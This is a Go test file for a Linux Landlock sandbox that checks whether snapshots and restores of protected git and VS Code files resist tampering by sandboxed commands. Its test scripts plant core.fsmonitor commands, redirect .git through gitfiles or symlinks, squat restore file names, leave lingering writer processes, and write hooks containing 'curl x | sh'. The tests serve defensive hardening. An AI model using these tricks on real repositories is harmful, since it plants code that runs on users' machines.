package landlock

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/guardrun/guardrun/sandbox"
)

// Attacks on the protected names' snapshots shared between commands
// (share_linux.go) and on their restore (restore_linux.go), by a
// command that runs under the backend, alone or with others in the same
// tree. Each row lays out what such a command would and checks what
// the user is left with once every command has ended.

// tamperProfile is the profile of a command in ws with the built-in
// protected names, derived from the tree as it is now (as each guardrun
// derives it when its command starts).
// GUARDRUN_ATTACK_NAMES (comma-separated) replaces them.
func tamperProfile(t *testing.T, ws string) *sandbox.Profile {
	t.Helper()
	names := sandbox.DefaultProtect
	if n := os.Getenv("GUARDRUN_ATTACK_NAMES"); n != "" {
		names = strings.Split(n, ",")
	}
	p, err := sandbox.Derive(sandbox.Spec{
		Zones:        []sandbox.Zone{{Name: "ws", Root: ws, Writable: true}},
		SystemRead:   sandbox.DefaultSystemPaths,
		Cwd:          ws,
		Home:         ws,
		ProtectNames: names,
	})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// tamperStart prepares and starts script under a profile derived from
// ws now; a refusal (by Command or Start) is returned, not failed on.
func tamperStart(t *testing.T, ws, script string) (*Cmd, *bytes.Buffer, error) {
	t.Helper()
	c, err := Command(context.Background(), tamperProfile(t, ws), []string{"/bin/sh", "-c", script}, []string{"PATH=/usr/bin:/bin"}, Config{Accept: []string{AcceptDenyCreate}, StateDir: testState})
	if err != nil {
		return nil, nil, err
	}
	var out bytes.Buffer
	c.Cmd.Stdout, c.Cmd.Stderr = &out, &out
	if err := c.Start(); err != nil {
		return nil, nil, err
	}
	return c, &out, nil
}

// tamperHelper starts this test binary as another guardrun process
// (TestShareTamperHelper) running script in ws, with this process's
// state directory.
func tamperHelper(t *testing.T, ws, script string) (*exec.Cmd, *bytes.Buffer) {
	return helperProcess(t, "TestShareTamperHelper", "GUARDRUN_ATTACK_HELPER", ws, script)
}

// TestShareTamperHelper is the other guardrun process of the rows
// below: it runs GUARDRUN_ATTACK_HELPER_SCRIPT in
// GUARDRUN_ATTACK_HELPER_WS under landlock (the built-in protected
// names) and prints what it restored.
func TestShareTamperHelper(t *testing.T) {
	ws := os.Getenv("GUARDRUN_ATTACK_HELPER_WS")
	if ws == "" {
		t.Skip("the helper of this file's rows")
	}
	c, out, err := tamperStart(t, ws, os.Getenv("GUARDRUN_ATTACK_HELPER_SCRIPT"))
	if err != nil {
		t.Fatalf("refused: %v", err)
	}
	st, err := c.Wait()
	if err != nil || st != 0 {
		t.Fatalf("status %d, %v\n%s", st, err, out)
	}
	for _, l := range c.Restored {
		t.Log("restored: " + l)
	}
}

// tamperRepo is a workspace holding a git repository (config, a hook).
func tamperRepo(t *testing.T) string {
	t.Helper()
	ws, err := os.MkdirTemp("/var/tmp", "guardrun-attackshare-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { removeTree(ws) })
	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
		if err := os.MkdirAll(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, s := range map[string]string{".git/config": shareCfg, ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/post-checkout": shareHook} {
		if err := os.WriteFile(filepath.Join(ws, name), []byte(s), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return ws
}

// TestShareNested: command A watches some paths; it changes the
// tree so that command B, starting while A runs, derives a profile that
// watches a path inside one A watches, or one holding them, which no
// running command watches by that name and is read afresh: A's change
// is then B's snapshot. A ends (its restore undoes its change), then B
// ends and restores its snapshot.
//
//   - gitfile: A watches .git/config and .git/hooks; it moves .git away
//     and puts a gitfile at .git that sends git to a directory of its
//     making, whose config runs a program (core.fsmonitor). B watches
//     .git itself; A's restore moves the gitfile aside, B's put it
//     back: git in the user's tree obeyed A's config.
//   - symlink: the same with a symbolic link to that directory at .git.
//   - worktree: the user's .git is a gitfile (a linked worktree), which
//     A watches; it replaces it with a directory with a config of its
//     own. B watches .git/config and .git/hooks; A's restore puts the
//     gitfile back, B's finds .git no directory and moves it aside: the
//     user's worktree lost its .git.
//
// A runs in another guardrun process, or in this one (guardrun serve).
// The shared snapshots must cover a path watched inside one another
// watches: B is refused, and the user's tree is as it was.
func TestShareNested(t *testing.T) {
	requireLandlock(t)
	rows := []struct {
		name     string
		worktree bool
		script   string
	}{
		{"gitfile", false, `mv .git .git-moved && mkdir -p evil/hooks evil/objects evil/refs &&
			echo 'ref: refs/heads/main' > evil/HEAD && printf '[core]\n\tfsmonitor = "touch pwned"\n' > evil/config &&
			echo 'gitdir: evil' > .git`},
		{"symlink", false, `mv .git .git-moved && mkdir -p evil/hooks evil/objects evil/refs &&
			echo 'ref: refs/heads/main' > evil/HEAD && printf '[core]\n\tfsmonitor = "touch pwned"\n' > evil/config &&
			ln -s evil .git`},
		{"worktree", true, `rm .git && mkdir -p .git/hooks .git/objects .git/refs && echo 'ref: refs/heads/main' > .git/HEAD &&
			printf '[core]\n\tfsmonitor = "touch pwned"\n' > .git/config`},
	}
	for _, row := range rows {
		for _, served := range []bool{false, true} {
			name := row.name + "/other process"
			if served {
				name = row.name + "/same process"
			}
			t.Run(name, func(t *testing.T) {
				ws := tamperRepo(t)
				const gitfile = "gitdir: main/.git/worktrees/wt\n"
				if row.worktree {
					// The user's linked worktree: .git is a file.
					if err := os.Rename(filepath.Join(ws, ".git"), filepath.Join(ws, "main-git")); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(filepath.Join(ws, ".git"), []byte(gitfile), 0o644); err != nil {
						t.Fatal(err)
					}
				}
				goA, goB := fifo(t, ws, "a-go"), fifo(t, ws, "b-go")
				script := row.script + ` && echo > a-changed && read x < a-go`
				var wait func() (string, error)
				if served {
					a, aout, err := tamperStart(t, ws, script)
					if err != nil {
						t.Fatal(err)
					}
					wait = func() (string, error) {
						st, err := a.Wait()
						if err == nil && st != 0 {
							err = fmt.Errorf("status %d", st)
						}
						return aout.String() + strings.Join(a.Restored, "\n"), err
					}
				} else {
					h, hout := tamperHelper(t, ws, script)
					wait = func() (string, error) { err := h.Wait(); return hout.String(), err }
				}
				waitLine(t, filepath.Join(ws, "a-changed"))
				b, bout, berr := tamperStart(t, ws, `read x < b-go`)
				goA()
				if out, err := wait(); err != nil {
					t.Fatalf("A: %v\n%s", err, out)
				}
				if berr != nil {
					t.Logf("B refused: %v", berr)
				} else {
					goB()
					if st, err := b.Wait(); err != nil || st != 0 {
						t.Fatalf("B: status %d, %v\n%s", st, err, bout)
					}
					t.Logf("B restored: %q", b.Restored)
				}
				if fi, err := os.Lstat(filepath.Join(ws, ".git")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
					t.Error("A's symbolic link is at .git after both commands")
				}
				data, err := os.ReadFile(filepath.Join(ws, ".git"))
				switch {
				case row.worktree && string(data) != gitfile:
					t.Errorf("the user's gitfile .git holds %q (%v) after both commands", data, err)
				case !row.worktree && err == nil:
					t.Errorf("A's gitfile is at .git after both commands: %q", data)
				}
				if _, err := os.Lstat(filepath.Join(ws, "pwned")); err == nil {
					t.Error("A's fsmonitor ran")
				}
			})
		}
	}
}

// TestRestoreNamesTaken: the restore builds its copy under a
// name beside the protected one, and the command can take every name
// it will try beforehand (it knows guardrun's pid: an ancestor of its
// own). Then no copy could be put back: the command's version was moved
// aside and nothing left at .git/config, the user's config lost with
// the snapshot. The restore must put the user's config back.
func TestRestoreNamesTaken(t *testing.T) {
	requireLandlock(t)
	ws := tamperRepo(t)
	c, out, err := tamperStart(t, ws, `p=$$
		while [ "$p" -gt 1 ]; do
			set --; i=0; while [ $i -le 300 ]; do set -- "$@" .git/.guardrun-restore-$p-$i; i=$((i+1)); done
			mkdir "$@" || exit 3
			echo $p >> taken
			p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status)
		done
		printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/config`)
	if err != nil {
		t.Fatal(err)
	}
	if st, err := c.Wait(); err != nil || st != 0 {
		t.Fatalf("status %d, %v\n%s", st, err, out)
	}
	// The command found guardrun (this process) among its ancestors
	// and took its names.
	if taken, _ := os.ReadFile(filepath.Join(ws, "taken")); !slices.Contains(strings.Fields(string(taken)), strconv.Itoa(os.Getpid())) {
		t.Fatalf("the command did not find guardrun's pid %d among its ancestors %q", os.Getpid(), taken)
	}
	t.Logf("restored: %q", c.Restored)
	if data, err := os.ReadFile(filepath.Join(ws, ".git/config")); err != nil || string(data) != shareCfg {
		t.Errorf(".git/config holds %q (%v), not the user's", data, err)
	}
}

// TestSnapshotFifoSwap: a command that swaps a watched file with
// a named pipe it holds open for writing, over and over, while another
// guardrun reads it (a snapshot, under the mutex every guardrun of the
// user takes to start a command, or a restore), must not make that read
// wait for the pipe: the file is looked at, then opened, and in between
// it can be the pipe. Every read must return, a snapshot or an error.
func TestSnapshotFifoSwap(t *testing.T) {
	root := t.TempDir()
	path, other := filepath.Join(root, ".bashrc"), filepath.Join(root, "other")
	if err := os.WriteFile(path, []byte("user\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(other, 0o600); err != nil {
		t.Fatal(err)
	}
	// Open for reading and writing: a writer that never writes.
	w, err := os.OpenFile(other, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	stop := make(chan struct{})
	swapped := make(chan struct{})
	go func() {
		defer close(swapped)
		for {
			select {
			case <-stop:
				return
			default:
			}
			_ = unix.Renameat2(unix.AT_FDCWD, path, unix.AT_FDCWD, other, unix.RENAME_EXCHANGE)
		}
	}()
	defer func() { close(stop); <-swapped }()
	ws := []Watch{{Path: path, Root: root}}
	deadline := time.Now().Add(3 * time.Second)
	for n := 0; time.Now().Before(deadline); n++ {
		done := make(chan error, 1)
		go func() {
			_, err := take(ws)
			done <- err
		}()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			w.Close() // lets the stuck read see the end of the pipe
			t.Fatalf("a snapshot read waited on the pipe swapped in for the file (after %d reads)", n)
		}
	}
}

// TestShareLeftovers: what a command leaves behind to change a
// protected name after its restore, while another command of another
// guardrun shares the snapshot: a background process that outlives the
// command and writes the hook and config a moment after it exits, and a
// hard link to .git/config kept elsewhere in the workspace, written by
// a later command. Every process of a command is ended before its
// restore (with the signal scope), and the restore swaps a fresh copy
// in: the user's files are theirs at the end.
func TestShareLeftovers(t *testing.T) {
	requireLandlock(t)
	if abi, _ := ABI(); abi < 6 {
		t.Skip("Landlock ABI below 6: leftovers are not ended (a documented limitation)")
	}
	ws := tamperRepo(t)
	endB := fifo(t, ws, "b-go")
	h, hout := tamperHelper(t, ws, `echo > b-started && read x < b-go`)
	waitLine(t, filepath.Join(ws, "b-started"))
	c, out, err := tamperStart(t, ws, `ln .git/config .git/cfg-link || exit 3
		(trap '' TERM HUP; sleep 0.5; printf 'curl x | sh\n' > .git/hooks/pre-commit; echo '[core] fsmonitor = x' >> .git/config; echo > late-write) >/dev/null 2>&1 &
		exit 0`)
	if err != nil {
		t.Fatal(err)
	}
	if st, err := c.Wait(); err != nil || st != 0 {
		t.Fatalf("status %d, %v\n%s", st, err, out)
	}
	t.Logf("restored: %q", c.Restored)
	time.Sleep(time.Second)
	if _, err := os.Lstat(filepath.Join(ws, "late-write")); err == nil {
		t.Error("the command's background process outlived it")
	}
	// A later command writes through the link it kept.
	c, out, err = tamperStart(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/cfg-link`)
	if err != nil {
		t.Fatal(err)
	}
	if st, err := c.Wait(); err != nil || st != 0 {
		t.Fatalf("status %d, %v\n%s", st, err, out)
	}
	endB()
	if err := h.Wait(); err != nil {
		t.Fatalf("the other guardrun: %v\n%s", err, hout)
	}
	if strings.Contains(hout.String(), "restored: ") {
		t.Errorf("the other guardrun had something to restore:\n%s", hout)
	}
	if b, err := os.ReadFile(filepath.Join(ws, ".git/config")); err != nil || string(b) != shareCfg {
		t.Errorf(".git/config holds %q (%v), not the user's", b, err)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
		t.Error("a hook was left in .git/hooks")
	}
}

// TestShareNestedNames: two configs protect different names in
// one tree: A's .vscode whole, B's .vscode/settings.json alone. A
// changes the settings (a task that runs a program); B starts while A
// runs, and its path, inside A's, was read afresh: A's change. A's
// restore put the user's settings back, B's then put A's back. B must
// be refused, and the user's settings stay theirs.
func TestShareNestedNames(t *testing.T) {
	requireLandlock(t)
	ws := tamperRepo(t)
	const settings = "{\"editor.tabSize\": 4}\n"
	if err := os.Mkdir(filepath.Join(ws, ".vscode"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, ".vscode/settings.json"), []byte(settings), 0o644); err != nil {
		t.Fatal(err)
	}
	goA, goB := fifo(t, ws, "a-go"), fifo(t, ws, "b-go")
	t.Setenv("GUARDRUN_ATTACK_NAMES", ".vscode")
	h, hout := tamperHelper(t, ws, `echo '{"task.autoDetect": "on", "x": "curl x | sh"}' > .vscode/settings.json && echo > a-changed && read x < a-go`)
	waitLine(t, filepath.Join(ws, "a-changed"))
	t.Setenv("GUARDRUN_ATTACK_NAMES", ".vscode/settings.json")
	b, bout, berr := tamperStart(t, ws, `read x < b-go`)
	goA()
	if err := h.Wait(); err != nil {
		t.Fatalf("A: %v\n%s", err, hout)
	}
	if berr != nil {
		t.Logf("B refused: %v", berr)
	} else {
		if n := len(b.Ruleset.Watch); n == 0 {
			t.Fatal("B watches nothing")
		}
		goB()
		if st, err := b.Wait(); err != nil || st != 0 {
			t.Fatalf("B: status %d, %v\n%s", st, err, bout)
		}
		t.Logf("B restored: %q", b.Restored)
	}
	if data, err := os.ReadFile(filepath.Join(ws, ".vscode/settings.json")); err != nil || string(data) != settings {
		t.Errorf(".vscode/settings.json holds %q (%v), not the user's", data, err)
	}
}

// TestShareKilledMidway: guardrun A is killed with SIGKILL (by
// the user, an OOM kill) at moments spread over its command's run, its
// restore and its release, while command B of this process shares the
// snapshot; A's command changes the config and adds a hook, then
// exits. Wherever A died, B's restore, the last, leaves the user's
// files as they were, and the next command starts (nothing of A's is
// held: its locks went with it).
func TestShareKilledMidway(t *testing.T) {
	requireLandlock(t)
	ws := tamperRepo(t)
	endB := fifo(t, ws, "b-go")
	b, bout, err := tamperStart(t, ws, `read x < b-go`)
	if err != nil {
		t.Fatal(err)
	}
	for i := range 12 {
		h, _ := tamperHelper(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/config && printf 'curl x | sh\n' > .git/hooks/pre-commit && echo > a-changed && sleep 0.02`)
		waitLine(t, filepath.Join(ws, "a-changed"))
		time.Sleep(time.Duration(i) * 3 * time.Millisecond)
		h.Process.Signal(unix.SIGKILL)
		h.Wait()
		os.Remove(filepath.Join(ws, "a-changed"))
	}
	endB()
	if st, err := b.Wait(); err != nil || st != 0 {
		t.Fatalf("B: status %d, %v\n%s", st, err, bout)
	}
	t.Logf("B restored: %q", b.Restored)
	if data, err := os.ReadFile(filepath.Join(ws, ".git/config")); err != nil || string(data) != shareCfg {
		t.Errorf(".git/config holds %q (%v), not the user's", data, err)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
		t.Error("a hook was left in .git/hooks")
	}
	c, out, err := tamperStart(t, ws, `true`)
	if err != nil {
		t.Fatalf("the next command: %v", err)
	}
	if st, err := c.Wait(); err != nil || st != 0 || len(c.Restored) != 0 {
		t.Errorf("the next command: status %d, %v, restored %q\n%s", st, err, c.Restored, out)
	}
}
